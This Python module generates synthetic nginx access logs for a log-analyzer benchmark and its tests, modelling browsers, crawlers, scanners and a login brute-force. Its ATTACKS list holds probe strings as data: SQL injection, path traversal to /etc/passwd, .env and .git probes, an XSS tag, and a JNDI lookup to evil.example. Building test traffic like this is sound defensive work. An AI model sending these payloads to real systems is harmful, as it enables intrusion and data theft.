"""A seeded generator of realistic nginx access logs (combined + ``$request_time``).

Used by the benchmark (a 100 MB log, side by side with GoAccess) and by tests that
need many lines with known properties.  The traffic model is a web app's week:

* visitors arrive following a daily curve; each has one IP (some share NAT
  addresses), one user agent and a session of page views, each page pulling
  static assets and API calls with numeric ids, UUIDs and query strings;
* crawlers, monitors and scripts make up a tenth of the requests;
* a few attackers run scanners (SQL injection, traversal, ``/.env`` probes),
  and one brute-forces the login form;
* response times are log-normal per endpoint, with one slow endpoint;
* a configurable share of lines is garbage (to exercise the invalid-line path).

Lines are time-ordered, like a real log.  The same seed gives the same bytes.
"""

from __future__ import annotations

import random
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

BROWSERS = (
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
     "Safari/537.36", 40),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} "
     "Safari/605.1.15", 15),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.{m} Mobile/15E148 Safari/604.1", 18),
    ("Mozilla/5.0 (Linux; Android 14; Pixel {m}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
     "Mobile Safari/537.36", 12),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 8),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
     "Safari/537.36 Edg/{v}.0.0.0", 7),
)  # fmt: skip
BOTS = (
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 30),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 15),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 10),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 15),
    ("curl/7.88.1", 10),
    ("python-requests/2.31.0", 10),
    ("Go-http-client/1.1", 5),
    ("-", 5),
)  # fmt: skip
SCANNERS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
            "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nuclei - Open-source project)")
ATTACKS = (
    "/search?q=1%27%20OR%201%3D1--", "/api/v1/listings?city=x%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/static/../../../../etc/passwd", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "/.env", "/.git/config",
    "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale", "/actuator/env", "/?x=${jndi:ldap://evil.example/a}", "/search?q=<script>alert(1)</script>",
    "/backup.sql", "/config.php.bak", "/server-status",
)  # fmt: skip
CITIES = ("lisbon", "porto", "paris", "berlin", "madrid", "rome", "vienna", "prague", "oslo", "dublin")
TERMS = ("beach+house", "loft", "cabin", "city+center", "pool", "garden", "studio", "sea+view")
REFERERS = ("https://www.google.com/", "https://duckduckgo.com/", "https://www.bing.com/",
            "https://t.co/x1y2z3", "https://news.ycombinator.com/")


def _lognormal_ms(rng: random.Random, median_ms: float, sigma: float = 0.6) -> float:
    return median_ms * rng.lognormvariate(0.0, sigma)


class AccessLogGenerator:
    """Yields log lines (str, newline-terminated) in time order."""

    def __init__(self, seed: int = 7, start: datetime | None = None, requests_per_day: int = 580_000,
                 invalid_ratio: float = 0.0, site: str = "https://rentals.example") -> None:
        self.rng = random.Random(seed)
        self.start = start or datetime(2024, 3, 4, tzinfo=UTC)
        self.per_day = requests_per_day
        self.invalid_ratio = invalid_ratio
        self.site = site
        rng = self.rng
        self.assets = [f"/static/js/app.{rng.getrandbits(32):08x}.js", f"/static/js/vendor.{rng.getrandbits(32):08x}.js",
                       f"/static/css/app.{rng.getrandbits(32):08x}.css", "/static/img/logo.svg", "/favicon.ico",
                       "/static/fonts/inter.woff2"] + [f"/static/img/listings/{i}.jpg" for i in range(1, 400)]
        self.browsers = [t.format(v=rng.randint(110, 126), m=rng.randint(0, 9)) for t, w in BROWSERS
                         for _ in range(w)]
        self.bots = [t for t, w in BOTS for _ in range(w)]

    def _ip(self) -> str:
        r = self.rng
        if r.random() < 0.08:
            return f"2a02:{r.getrandbits(16):x}:{r.getrandbits(16):x}::{r.getrandbits(16):x}"
        return f"{r.choice((31, 46, 62, 77, 85, 89, 91, 94, 151, 176, 185, 188, 193, 212, 213))}." \
               f"{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"

    def _session(self) -> list[tuple[str, str, int, int, float, str]]:
        """(method, path, status, bytes, ms, referer) for one visitor's session."""
        r = self.rng
        out: list[tuple[str, str, int, int, float, str]] = []
        ref = r.choice(REFERERS) if r.random() < 0.4 else "-"
        for _ in range(max(1, int(r.expovariate(1 / 4)))):
            kind = r.random()
            if kind < 0.25:
                page = "/"
            elif kind < 0.5:
                page = f"/search?q={r.choice(TERMS)}&city={r.choice(CITIES)}"
            elif kind < 0.8:
                page = f"/listings/{r.randint(1, 20000)}"
            elif kind < 0.9:
                page = f"/users/{r.randint(1, 50000)}"
            else:
                page = r.choice(("/about", "/help/cancellation", "/help/payments", "/signup", "/login"))
            status = 200 if r.random() > 0.02 else r.choice((404, 404, 301, 500))
            out.append(("GET", page, status, r.randint(8000, 60000), _lognormal_ms(r, 35), ref))
            ref = self.site + page.split("?")[0]
            for a in r.sample(self.assets[:6], r.randint(0, 4)) + [r.choice(self.assets[6:])]:
                st = 304 if r.random() < 0.3 else 200
                out.append(("GET", a, st, 0 if st == 304 else r.randint(500, 250000), _lognormal_ms(r, 2, 0.4),
                            ref))
            for _ in range(r.randint(1, 5)):
                api = r.random()
                if api < 0.3:
                    call = ("GET", f"/api/v1/listings?city={r.choice(CITIES)}&page={r.randint(1, 30)}", 80)
                elif api < 0.5:
                    call = ("GET", f"/api/v1/listings/{r.randint(1, 20000)}/reviews", 45)
                elif api < 0.65:
                    call = ("GET", f"/api/v1/messages/{uuid.UUID(int=r.getrandbits(128), version=4)}", 25)
                elif api < 0.75:
                    call = ("POST", "/api/v1/bookings", 140)
                elif api < 0.85:
                    call = ("GET", f"/api/v1/notifications?since={int(r.random() * 1e9) + 1700000000}", 15)
                elif api < 0.95:
                    call = ("GET", f"/api/v1/users/{r.randint(1, 50000)}", 20)
                else:
                    call = ("GET", f"/api/v1/reports/{r.randint(1, 500)}/export", 900)  # the slow one
                st = 200
                x = r.random()
                if x < 0.0015:
                    st = 500
                elif x < 0.02:
                    st = 404
                elif x < 0.03 and call[0] == "POST":
                    st = 422
                out.append((call[0], call[1], st, r.randint(200, 20000), _lognormal_ms(r, call[2]), ref))
        return out

    def lines(self) -> Iterator[str]:
        r = self.rng
        t = self.start.timestamp()
        mean_gap = 86400.0 / self.per_day
        queue: list[tuple[str, str, str, str, str, int, int, float, str]] = []
        while True:
            if not queue:
                x = r.random()
                ip = self._ip()
                if x < 0.9:
                    ua = r.choice(self.browsers)
                    for m, p, st, b, ms, ref in self._session():
                        queue.append((ip, ua, m, p, "HTTP/2.0" if r.random() < 0.3 else "HTTP/1.1", st, b, ms, ref))
                elif x < 0.985:
                    ua = r.choice(self.bots)
                    for _ in range(r.randint(1, 15)):
                        p = r.choice(("/robots.txt", "/sitemap.xml", f"/listings/{r.randint(1, 20000)}", "/",
                                      "/healthz"))
                        queue.append((ip, ua, "GET", p, "HTTP/1.1", 200, r.randint(100, 40000),
                                      _lognormal_ms(r, 20), "-"))
                elif x < 0.995:
                    ua = r.choice(SCANNERS)
                    for p in r.sample(ATTACKS, r.randint(3, len(ATTACKS))):
                        queue.append((ip, ua, "GET", p, "HTTP/1.1", r.choice((404, 404, 400, 403, 200)),
                                      r.randint(0, 600), _lognormal_ms(r, 5), "-"))
                else:
                    ua = r.choice(self.browsers)
                    for _ in range(r.randint(20, 60)):  # credential stuffing
                        queue.append((ip, ua, "POST", "/login", "HTTP/1.1", 401, 120, _lognormal_ms(r, 60),
                                      self.site + "/login"))
                queue.reverse()
            ip, ua, m, p, proto, st, b, ms, ref = queue.pop()
            # a daily curve: quiet at 4am, busy in the evening
            hour = (t % 86400) / 3600.0
            load = 0.35 + 0.65 * (0.5 - 0.5 * _cos((hour - 4.0) / 24.0))
            t += r.expovariate(load / mean_gap) if load > 0 else mean_gap
            ts = datetime.fromtimestamp(t, UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
            if self.invalid_ratio and r.random() < self.invalid_ratio:
                yield r.choice((f"garbage line {r.getrandbits(32):x}\n", f"{ip} - - [{ts}] \"GET /trunc",
                                f"999.1.1.1 - - [{ts}] \"GET / HTTP/1.1\" 200 1 \"-\" \"x\" 0.001\n",
                                f"{ip} - - [{ts}] \"GET / HTTP/1.1\" 2000 1 \"-\" \"x\" 0.001\n")).rstrip("\n") + "\n"
                continue
            yield f'{ip} - - [{ts}] "{m} {p} {proto}" {st} {b} "{ref}" "{ua}" {ms / 1000:.3f}\n'


def _cos(x: float) -> float:
    import math

    return math.cos(2 * math.pi * x)


def write_access_log(path: str, size_bytes: int, seed: int = 7, **kw: object) -> int:
    """Write about ``size_bytes`` of log lines to ``path``; returns the number of lines."""
    gen = AccessLogGenerator(seed=seed, **kw)  # type: ignore[arg-type]
    n = 0
    written = 0
    buf: list[str] = []
    with open(path, "w", encoding="utf-8") as fh:
        for line in gen.lines():
            buf.append(line)
            written += len(line)
            n += 1
            if len(buf) >= 20000:
                fh.write("".join(buf))
                buf.clear()
            if written >= size_bytes:
                break
        fh.write("".join(buf))
    return n


def start_of(days: int) -> datetime:
    return datetime(2024, 3, 4, tzinfo=UTC) - timedelta(days=days)
